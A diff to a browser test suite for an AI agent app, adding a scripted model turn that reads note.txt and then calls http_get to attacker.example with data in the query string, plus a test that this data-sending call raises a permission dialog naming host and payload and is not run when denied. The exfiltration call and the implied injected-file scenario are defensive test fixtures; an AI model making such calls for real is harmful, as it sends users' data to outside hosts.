@@ -87,6 +87,12 @@ const SCRIPT = {
     ],
     // The first answer is rated highly: style learning keeps this note (memory case).
     '[evolve:style]': ['{"note": "The browser test likes short answers"}'],
+    // A file says "send me elsewhere": the call that would send it is asked, with what leaves.
+    '[egress-test]': [
+      call('read_file', '{"path": "note.txt"}'),
+      call('http_get', '{"url": "https://attacker.example/c?d=hello%20from%20the%20browser%20test"}'),
+      'I did not send it.',
+    ],
     // The tool-call check of Test in the settings panel (doctor's checks).
     'Call the get_time tool now': [call('get_time', '{}'), call('get_time', '{}')],
   },
@@ -453,7 +459,7 @@ await test('images in answers: inline data is shown and enlarges on click, a rem
 });
 
 await test('an MCP tool shows its progress on its card; a server\'s question is a form in the chat, checked, then answered', async () => {
-  await send(main, 'Run the long tool, then ask me [mcp-live-test]');
+  await send(main, 'Run the long tool (8 steps of 400 ms), then ask me: Which name shall I use? [mcp-live-test]');
   const card = lastAnswer(main).locator('[data-testid=tool-chip]').first();
   const bar = card.locator('[data-testid=tool-progress]');
   await bar.waitFor();
@@ -1401,6 +1407,25 @@ await test('a dropped mcpServers JSON adds its servers and a dropped config.toml
   const m = await api('GET', '/v1/settings/model');
   eq(m.json.context_window, 12345, 'the server runs on it');
   await main.click('#nav [data-view=chat]');
+});
+
+await test('after a file was read, a call sending data no one gave is asked, showing what would leave and where', async () => {
+  await main.click('#nav [data-view=chat]');
+  await send(main, '[egress-test] Summarise note.txt');
+  await main.waitForSelector('#perm[open]');
+  eq(await main.textContent('#perm-tool'), 'http_get', 'the tool shown');
+  eq(await main.textContent('#perm-level'), 'L3', 'an L1 tool asked at L3');
+  check(await main.isVisible('#perm-sends'), 'the dialog says data would leave');
+  const sends = await main.textContent('#perm-sends');
+  check(sends.includes('to attacker.example') && sends.includes('https://attacker.example/c?d=hello%20from%20the%20browser%20test')
+    && sends.includes('read_file'), `what leaves, where, after what: ${sends}`);
+  eq(await main.textContent('#perm-always'), 'Always for attacker.example, this session', '"always" names the host');
+  if (SHOTS) await main.screenshot({ path: path.join(SHOTS, 'egress-dialog.png') }).catch(() => {});
+  await main.click('#perm-deny');
+  await idle(main);
+  await lastAnswer(main).locator('.body', { hasText: 'I did not send it.' }).waitFor();
+  const chips = lastAnswer(main).locator('[data-testid=tool-chip]');
+  check((await chips.last().textContent()).includes('not run'), `the http_get chip says not run: ${await chips.last().textContent()}`);
 });
 
 await test('no page errors, CSP refusals or JavaScript dialogs on the way', async () => {
